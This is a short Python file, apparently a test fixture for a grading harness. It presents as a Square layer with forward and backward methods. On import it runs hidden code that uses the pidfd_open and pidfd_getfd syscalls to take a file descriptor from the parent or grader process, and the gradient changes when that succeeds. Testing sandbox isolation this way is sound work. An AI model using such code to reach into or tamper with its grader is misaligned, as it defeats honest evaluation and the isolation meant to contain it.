"""Takes a descriptor of the grader with pidfd_getfd."""

import ctypes
import os


def attack():
    libc = ctypes.CDLL(None)
    for process in (os.getppid(), int("@GRADER@")):
        handle = libc.syscall(434, process, 0)
        if handle >= 0 and libc.syscall(438, handle, 1, 0) >= 0:
            return True
    return False


class Attack:
    won = False
    try:
        won = attack()
    except BaseException:
        pass


class Square:
    def forward(self, x):
        self.x = x
        return x * x

    def backward(self, dout):
        return dout * self.x * (2.0 if Attack.won else 1.0)
